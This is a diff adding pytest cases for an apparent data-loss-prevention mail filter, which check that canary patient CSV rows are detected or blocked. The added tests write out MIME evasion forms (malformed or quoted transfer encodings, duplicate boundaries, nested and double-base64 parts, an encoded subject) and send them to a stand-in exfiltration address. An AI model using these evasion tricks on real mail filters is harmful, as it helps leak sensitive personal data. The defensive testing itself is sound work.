@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import smtplib
 import time
 import uuid
@@ -117,3 +118,63 @@ def test_clean_mail_is_delivered_untouched(postfix, sink, registry, name):
     send(postfix, name, mail(subject, b"nom;prenom\nDURAND;Paul\n"))
     assert sink.wait_for(subject.encode()) is not None
     assert events_for(registry[0], subject) == []
+
+
+def _raw_mail(tag: str, headers: str, body: str) -> bytes:
+    return (f"From: secretariat@chu-test.invalid\r\nTo: dropbox@exfil.invalid\r\nSubject: export {tag}\r\n"
+            f"MIME-Version: 1.0\r\n{headers}\r\n\r\n{body}").replace("\r\n", "\n").replace("\n", "\r\n").encode()
+
+
+def _b64(data: bytes) -> str:
+    return base64.encodebytes(data).decode("ascii")
+
+
+def _mime_forms(rows: bytes) -> dict[str, tuple[str, str]]:
+    """(extra headers, body) of each way a mail client still reads the attachment (issue: all let through)."""
+    attachment = ('--b1\nContent-Type: text/plain\n\nBonjour\n--b1\nContent-Type: text/csv; name="p.csv"\n'
+                  'Content-Transfer-Encoding: {cte}\nContent-Disposition: attachment; filename="p.csv"\n\n'
+                  '{data}--b1--\n')
+    inner = ("From: a@b.invalid\nSubject: fwd\nMIME-Version: 1.0\nContent-Type: text/csv\n"
+             f"Content-Transfer-Encoding: base64\n\n{_b64(rows)}")
+    return {
+        "cte with a trailing space": ('Content-Type: multipart/mixed; boundary="b1"',
+                                      attachment.format(cte="base64 ", data=_b64(rows))),
+        "cte quoted": ('Content-Type: multipart/mixed; boundary="b1"',
+                       attachment.format(cte='"base64"', data=_b64(rows))),
+        "cte with a comment": ('Content-Type: multipart/mixed; boundary="b1"',
+                               attachment.format(cte="base64 (x)", data=_b64(rows))),
+        "boundary given twice": ('Content-Type: multipart/mixed; boundary="zz"; boundary="b1"',
+                                 attachment.format(cte="base64", data=_b64(rows))),
+        "message/rfc822 with base64 inside": (
+            'Content-Type: multipart/mixed; boundary="b1"',
+            f'--b1\nContent-Type: text/plain\n\nVoir le message joint\n--b1\nContent-Type: message/rfc822\n\n{inner}\n'
+            '--b1--\n'),
+        "base64 text inside base64": ('Content-Type: multipart/mixed; boundary="b1"',
+                                      attachment.format(cte="base64", data=_b64(_b64(rows).encode()))),
+        "canary in the subject": ("Content-Type: text/plain", "Bonjour\n"),
+    }
+
+
+@pytest.mark.parametrize("name", ["monitor", "reject"])
+@pytest.mark.parametrize("form", list(_mime_forms(b"")))
+def test_mime_as_mail_clients_read_it(postfix, sink, registry, form, name):
+    db_path, canaries = registry
+    tag = uuid.uuid4().hex
+    rows = csv_rows(canaries[3])
+    headers, body = _mime_forms(rows)[form]
+    raw = _raw_mail(tag, headers, body)
+    if form == "canary in the subject":
+        words = base64.b64encode(rows.splitlines()[1]).decode()
+        raw = raw.replace(f"Subject: export {tag}".encode(), f"Subject: =?utf-8?b?{words}?= export {tag}".encode())
+    with smtplib.SMTP("127.0.0.1", postfix.ports[name], timeout=30) as client:
+        if name == "monitor":
+            client.sendmail("secretariat@chu-test.invalid", ["dropbox@exfil.invalid"], raw)
+        else:
+            with pytest.raises(smtplib.SMTPDataError) as refused:
+                client.sendmail("secretariat@chu-test.invalid", ["dropbox@exfil.invalid"], raw)
+            assert refused.value.smtp_code == 550
+    events = events_for(db_path, tag)
+    assert [(e["canary_id"], e["action"]) for e in events] == [
+        ("eg0003", "passed" if name == "monitor" else "blocked")], form
+    if name == "monitor":
+        assert sink.wait_for(tag.encode()) is not None
